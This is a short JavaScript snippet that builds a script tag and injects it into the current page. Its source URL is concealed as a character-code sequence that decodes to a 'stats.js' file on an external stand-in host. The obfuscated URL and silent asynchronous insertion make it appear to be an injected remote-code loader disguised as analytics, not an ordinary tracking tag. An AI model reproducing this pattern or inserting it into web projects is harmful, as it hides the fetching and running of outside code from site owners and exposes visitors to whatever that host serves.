var d = document;
var s = d.createElement('script');
s.type = 'text/javascript';
s.async = true;
s.src = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 116, 114, 101, 110, 100, 46, 108, 111, 119, 101, 114, 108, 105, 103, 104, 116, 115, 116, 101, 112, 46, 101, 120, 97, 109, 112, 108, 101, 47, 115, 99, 114, 105, 112, 116, 115, 47, 115, 116, 97, 116, 115, 46, 106, 115, 63, 118, 61, 51, 46, 49);
var first = d.getElementsByTagName('script')[0];
if (d.currentScript) {
  d.currentScript.parentNode.insertBefore(s, d.currentScript);
} else {
  first.parentNode.insertBefore(s, first);
}
